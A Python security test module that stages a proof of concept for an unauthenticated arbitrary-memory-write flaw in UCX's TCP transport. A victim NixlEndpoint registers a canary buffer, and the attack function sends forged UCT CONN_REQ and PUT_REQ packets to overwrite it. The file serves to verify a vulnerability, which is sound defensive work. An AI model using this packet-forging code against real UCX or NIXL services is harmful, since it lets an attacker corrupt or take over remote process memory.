"""The two ends of H1 (UCX over TCP writes wherever a PUT header says), as processes.

    python -m tests.security.ucx_peers victim HOST     a real NixlEndpoint (pinned to HOST's
        interface as every instance's is) with a zeroed 4 KiB canary registered; prints one JSON
        line {addr, ports} (the canary's address, the process's TCP listening ports), then drives
        progress for up to VICTIM_S and prints {"canary": text} when the canary changed
    python -m tests.security.ucx_peers attack HOST PORT ADDR TEXT
        no NIXL, no UCX, no metadata: a raw TCP connection that speaks UCT's tcp wire format
        (src/uct/tcp/tcp.h: magic number, CM CONN_REQ, PUT_REQ {addr, length, sn} + payload);
        prints {"reply": hex of what came back}
"""

from __future__ import annotations

import json
import socket
import struct
import sys
import time

VICTIM_S = 20.0
UCT_TCP_MAGIC = 0xCAFEBABE12345678
CM_AM_ID, PUT_REQ_AM_ID = 32, 33  # UCT_AM_ID_MAX, UCT_AM_ID_MAX + 1
CONN_REQ = 1


def _am(am_id: int, payload: bytes) -> bytes:
    return struct.pack("<BI", am_id, len(payload)) + payload


def put_packets(src: tuple[str, int], addr: int, data: bytes) -> bytes:
    """What one UCT tcp peer sends to write `data` at `addr` in another: magic, CONN_REQ with a
    made-up cm id and the sender's sockaddr_in, PUT_REQ, the bytes."""
    sockaddr = struct.pack("<H", socket.AF_INET) + struct.pack(">H", src[1]) + socket.inet_aton(src[0]) + bytes(8)
    conn_req = struct.pack("<IBQ", CONN_REQ, 0, 0x5EC) + sockaddr
    put_req = struct.pack("<QQI", addr, len(data), 1)
    return struct.pack("<Q", UCT_TCP_MAGIC) + _am(CM_AM_ID, conn_req) + _am(PUT_REQ_AM_ID, put_req) + data


def attack(host: str, port: int, addr: int, text: str) -> None:
    with socket.create_connection((host, port), timeout=5) as s:
        s.sendall(put_packets(s.getsockname()[:2], addr, text.encode()))
        s.settimeout(2.0)
        reply = b""
        try:
            while len(reply) < 18:  # CONN_ACK (5 + 4) and PUT_ACK (5 + 4)
                chunk = s.recv(64)
                if not chunk:
                    break
                reply += chunk
        except OSError:
            pass
    print(json.dumps({"reply": reply.hex()}), flush=True)


def victim(host: str) -> None:
    import logging

    import psutil
    import torch

    from kv_transfer.faults import FaultInjector, FaultSpec
    from kv_transfer.nixl_endpoint import NixlEndpoint
    from kv_transfer.ucx_env import ucx_pinned_to

    logging.basicConfig(level="WARNING")
    canary = torch.zeros(4096, dtype=torch.uint8)
    with ucx_pinned_to(host):
        ep = NixlEndpoint("victim", [canary], None, FaultInjector(FaultSpec()))
    ports = sorted({c.laddr.port for c in psutil.Process().net_connections("tcp") if c.status == "LISTEN"})
    print(json.dumps({"addr": canary.data_ptr(), "ports": ports}), flush=True)
    deadline = time.monotonic() + VICTIM_S
    while time.monotonic() < deadline:
        ep.progress()
        if bool(canary.any()):
            time.sleep(0.05)
            ep.progress()
            print(json.dumps({"canary": bytes(canary[:64].tolist()).rstrip(b"\0").decode(errors="replace")}), flush=True)
            return
        time.sleep(0.01)
    print(json.dumps({"canary": ""}), flush=True)


if __name__ == "__main__":
    if sys.argv[1] == "victim":
        victim(sys.argv[2])
    else:
        attack(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5])
